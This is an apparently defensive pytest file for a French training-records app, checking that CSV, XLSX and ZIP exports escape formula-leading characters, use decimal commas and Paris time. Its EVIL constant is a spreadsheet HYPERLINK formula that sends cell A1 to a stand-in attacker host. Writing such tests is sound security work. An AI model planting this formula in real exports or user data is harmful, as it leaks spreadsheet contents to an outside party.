"""Exports cannot be turned against their readers, and read French: cells, dates, ZIP entries."""

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from lexom_learning.documents.archive import csv_bytes, zip_stream
from lexom_learning.documents.cells import csv_cell, decimal_fr, neutralise, xlsx_value
from lexom_learning.services import attestations, exports
from tests.attestations.conftest import attend

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character_is_neutralised(first):
    assert neutralise(f"{first}1+1") == f"'{first}1+1"
    assert csv_cell(f"{first}cmd") == f"'{first}cmd"
    assert xlsx_value(f"{first}cmd") == f"'{first}cmd"


def test_harmless_text_and_numbers_are_kept():
    assert neutralise("Hélène") == "Hélène" and neutralise("a=b") == "a=b"
    assert csv_cell(3.5) == "3,5" and csv_cell(14.0) == "14" and csv_cell(0.25) == "0,25"
    assert csv_cell(7) == "7" and csv_cell(None) == "" and csv_cell(-2.5) == "-2,5"
    assert xlsx_value(3.5) == 3.5 and decimal_fr(10.75) == "10,75"


@pytest.mark.parametrize(
    ("moment", "expected"),
    [
        (datetime(2026, 12, 3, 8, 15, tzinfo=UTC), "2026-12-03T09:15:00+01:00"),
        (datetime(2026, 7, 3, 8, 15, tzinfo=UTC), "2026-07-03T10:15:00+02:00"),
        # the night the clocks go back: 00:59 UTC is 02:59 summer time, 01:00 UTC 02:00 winter
        (datetime(2026, 10, 25, 0, 59, tzinfo=UTC), "2026-10-25T02:59:00+02:00"),
        (datetime(2026, 10, 25, 1, 0, tzinfo=UTC), "2026-10-25T02:00:00+01:00"),
    ],
)
def test_times_are_written_in_paris_with_their_offset(moment, expected):
    assert csv_cell(moment) == expected


def test_a_csv_neutralises_every_cell_and_uses_decimal_commas():
    raw = csv_bytes(["nom", "heures"], [[EVIL, 3.5], ["@SUM(A1)", 14.0]])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + EVIL, "3,5"] and rows[2] == ["'@SUM(A1)", "14"]


def test_zip_entries_carry_their_own_date_in_paris_time():
    issued = datetime(2026, 12, 3, 16, 30, 5, tzinfo=UTC)
    now = datetime(2026, 12, 7, 1, 46, 4, tzinfo=UTC)
    archive = zipfile.ZipFile(
        io.BytesIO(b"".join(zip_stream([("a.pdf", b"x", issued), ("b.csv", b"y")], now)))
    )
    assert archive.getinfo("a.pdf").date_time == (2026, 12, 3, 17, 30, 4)  # 2-second precision
    assert archive.getinfo("b.csv").date_time == (2026, 12, 7, 2, 46, 4)


def test_a_formula_name_stays_text_in_the_register_and_the_evidence(world, course, factories):
    person = factories.ParticipantFactory(session=world.session, name=EVIL)
    attend(world.session, course, person, "d1-am", paper=True)
    attend(world.session, course, person, "d1-pm", paper=True)
    issued = attestations.close_and_issue(world.session, course).issued[0]
    raw = exports.register(world.session.id, "csv").decode("utf-8-sig")
    record = dict(zip(*csv.reader(io.StringIO(raw), delimiter=";"), strict=True))
    assert record["participant"] == "'" + EVIL
    workbook = load_workbook(io.BytesIO(exports.register(world.session.id, "xlsx")))
    cell = workbook.active["D2"]
    assert cell.value == "'" + EVIL and cell.data_type == "s"
    assert not any(c.data_type == "f" for row in workbook.active.iter_rows() for c in row)
    folder = exports.evidence_folder(world.session, course)
    for file in folder.files:
        if file.path.endswith(".csv"):
            text = file.data.decode("utf-8-sig")
            assert f";{EVIL}" not in text and f"\n{EVIL}" not in text, file.path
    archive = zipfile.ZipFile(io.BytesIO(b"".join(folder.stream())))
    info = archive.getinfo(f"attestations/{issued.number}.pdf")
    assert info.date_time[:3] != (2020, 1, 1) and info.date_time[0] == issued.issued_at.year
